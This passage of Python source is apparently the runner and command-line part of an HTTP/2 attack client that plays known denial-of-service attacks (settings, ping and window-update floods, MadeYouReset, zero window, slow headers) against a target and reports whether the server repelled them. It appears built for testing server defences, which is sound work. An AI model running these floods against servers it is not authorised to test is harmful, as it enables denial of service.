    'settings_flood': (attack_settings_flood, ['read', 'noread']),
    'ping_flood': (attack_ping_flood, ['noread', 'read']),
    'madeyoureset': (attack_madeyoureset, list(MYR_VARIANTS)),
    'empty_data_flood': (attack_empty_data_flood, ['default']),
    'window_update_flood': (attack_window_update_flood, ['both', 'conn', 'stream']),
    'zero_window': (attack_zero_window, ['read', 'noread']),
    'slow_headers': (attack_slow_headers, ['default']),
}


# --- runner --------------------------------------------------------------------

def run(conn, a):
    """Drive the attack generator until the server reacts or a limit is hit.

    Returns (why it stopped, elapsed seconds then, whether writes had stalled).
    """
    good = a.attack == 'good'
    conn.stop_on_goaway = not good      # good: in-flight streams may finish
    count = None if good else a.count
    deadline = conn.t0 + a.time_limit
    gen = ATTACKS[a.attack][0](conn, a)
    sent = 0
    reason = 'done'
    for item in gen:
        if isinstance(item, float):
            conn.pump_for(item, deadline)
        else:
            conn.queue(item)
            sent += 1
            if len(conn.out) >= HIGH_WATER:
                conn.pump_while(lambda: len(conn.out) >= LOW_WATER, deadline)
            elif sent % 32 == 0:
                conn.pump(0)
        if conn.finished():
            reason = 'server'
            break
        if time.monotonic() >= deadline:
            reason = 'time limit'
            break
        if count and sent >= count:
            reason = 'count'
            break
    gen.close()
    if reason == 'count':
        # Flush what is queued and give the server time to react.
        grace = min(deadline, time.monotonic() + a.grace)
        conn.pump_while(lambda: conn.out, grace)
        conn.pump_for(grace - time.monotonic(), grace)
    stopped_at = conn.elapsed()
    stalled = bool(conn.out) and stopped_at - conn.last_write_at >= STALL_S
    if conn.goaway is not None:
        # Does the server close the connection after its GOAWAY, too?
        end = time.monotonic() + 0.5
        while not conn.closed and time.monotonic() < end:
            conn.pump(0.05)
    conn.drain(0.5)
    return reason, stopped_at, stalled


def report(conn, a, reason, stopped_at, stalled):
    limit = a.time_limit
    goaway = conn.goaway
    closed_in_time = conn.closed and conn.closed_at is not None and conn.closed_at <= limit
    goaway_in_time = goaway is not None and goaway['at'] <= limit
    repelled = bool(goaway_in_time or closed_in_time)
    reactions = [t for t in (goaway and goaway['at'], conn.closed_at) if t is not None]
    reaction_at = min(reactions) if reactions else stopped_at
    result = {
        'attack': a.attack,
        'variant': a.variant,
        'repelled': repelled,
        'goaway': goaway is not None,
        'goaway_error': goaway['error'] if goaway else None,
        'closed': conn.closed,
        'frames_sent': conn.frames_sent,
        'bytes_sent': conn.bytes_sent,
        'rst_received': sum(conn.rst_codes.values()),
        'responses': conn.responses,
        'data_bytes_received': conn.data_received,
        'elapsed_s': round(reaction_at, 3),
        'goaway_last_stream_id': goaway['last_stream_id'] if goaway else None,
        'goaway_debug': goaway['debug'] if goaway and goaway['debug'] else None,
        'close': conn.close_how,
        'stopped_by': reason,
        'stalled': stalled,
        'last_write_s': round(conn.last_write_at, 3),
        'streams_opened': (conn.next_sid - 1) // 2,
        'rst_codes': dict(conn.rst_codes),
        'first_rst_s': round(conn.first_rst_at, 3) if conn.first_rst_at is not None else None,
        'statuses': {str(k): v for k, v in sorted(conn.statuses.items())},
        'acks_received': {'settings': conn.settings_acks, 'ping': conn.pings_acked},
        'server_settings': conn.server_settings,
    }
    if conn.decoder_error:
        result['hpack_error'] = conn.decoder_error
    if conn.malformed_frames:
        result['malformed_frames'] = conn.malformed_frames
    if a.attack == 'good':
        ok = sum(1 for s in conn.streams.values()
                 if s.status == a.expect_status and s.ended)
        result['ok'] = ok == a.count
        result['succeeded'] = ok
        result['requested'] = a.count
        return result, 0 if result['ok'] else 1
    return result, 0 if repelled else 1


def parse_target(target):
    host, sep, port = target.rpartition(':')
    if not sep or not host or not port.isdigit():
        raise ValueError('--target must be HOST:PORT')
    return host.strip('[]'), int(port)


def parse_args(argv):
    p = argparse.ArgumentParser(
        description='HTTP/2 attack client: plays one known HTTP/2 attack on one '
                    'connection and reports whether the server repelled it.',
        epilog='attacks and variants: ' + '; '.join(
            '%s [%s]' % (k, '|'.join(v[1])) for k, v in ATTACKS.items()))
    p.add_argument('--target', required=True, help='HOST:PORT ([v6addr]:PORT)')
    p.add_argument('--tls', action='store_true',
                   help='TLS with ALPN h2 (default: h2c with prior knowledge)')
    p.add_argument('--ca', help='CA file to verify the server certificate')
    p.add_argument('--sni', help='TLS server name (default: the target host)')
    p.add_argument('--insecure', action='store_true', help='do not verify the certificate')
    p.add_argument('--authority', help=':authority (default: --sni or the target host)')
    p.add_argument('--path', default='/', help=':path of GET requests (default /)')
    p.add_argument('--post-path', help=':path of POST requests (default: --path)')
    p.add_argument('attack', metavar='ATTACK', choices=sorted(ATTACKS),
                   help='one of: ' + ', '.join(ATTACKS))
    p.add_argument('--variant', help='attack variant (default: the first listed)')
    p.add_argument('--count', type=int,
                   help='stop after N attack frames (good: N requests, default 100)')
    p.add_argument('--time-limit', type=float, default=10.0, help='seconds (default 10)')
    p.add_argument('--grace', type=float, default=1.0,
                   help='after --count frames, wait this long for a reaction (default 1)')
    p.add_argument('--connect-timeout', type=float, default=5.0)
    p.add_argument('--expect-status', type=int, default=200, help='good: expected :status')
    p.add_argument('--concurrency', type=int, default=100, help='good: max concurrent streams')
    p.add_argument('--streams', type=int, default=4, help='zero_window: streams to open')
    p.add_argument('--interval', type=float, default=1.0, help='slow_headers: seconds per byte')
    p.add_argument('--header-bytes', type=int, default=1 << 20,
                   help='oversized_headers: header list size (default 1 MiB)')
    p.add_argument('--bomb-refs', type=int,
                   help='hpack_bomb: references per block (default 16000, many_blocks 15)')
    a = p.parse_args(argv)
    variants = ATTACKS[a.attack][1]
    if a.variant is None:
        a.variant = variants[0]
    elif a.variant not in variants:
        p.error('variant of %s must be one of: %s' % (a.attack, ', '.join(variants)))
    if a.post_path is None:
        a.post_path = a.path
    if a.attack == 'good' and a.count is None:
        a.count = 100
    try:
        a.host, a.port = parse_target(a.target)
    except ValueError as e:
        p.error(str(e))
    if a.authority is None:
        a.authority = a.sni or (a.host if ':' not in a.host else '[%s]' % a.host)
        if not a.sni and a.port not in (80, 443):
            a.authority += ':%d' % a.port
    for name in ('count', 'streams', 'header_bytes', 'bomb_refs', 'concurrency'):
        if getattr(a, name) is not None and getattr(a, name) < 1:
            p.error('--%s must be positive' % name.replace('_', '-'))
    if a.time_limit <= 0 or a.interval <= 0 or a.grace < 0:
        p.error('--time-limit and --interval must be positive')
    return a


def main(argv=None):
    a = parse_args(sys.argv[1:] if argv is None else argv)
    conn = Conn(a)
    try:
        conn.connect()
        conn.handshake(initial_window=0 if a.attack == 'zero_window' else RECV_WINDOW)
        outcome = run(conn, a)
    except SetupError as e:
        print(json.dumps({'attack': a.attack, 'variant': a.variant, 'error': str(e)}))
        return 2
    except Exception as e:      # a bug here must not read as "not repelled"
        traceback.print_exc()
        print(json.dumps({'attack': a.attack, 'variant': a.variant,
                          'error': 'internal: %s: %s' % (type(e).__name__, e)}))
        return 2
    finally:
        conn.close()
    result, status = report(conn, a, *outcome)
    print(json.dumps(result))
    return status


if __name__ == '__main__':
    sys.exit(main())
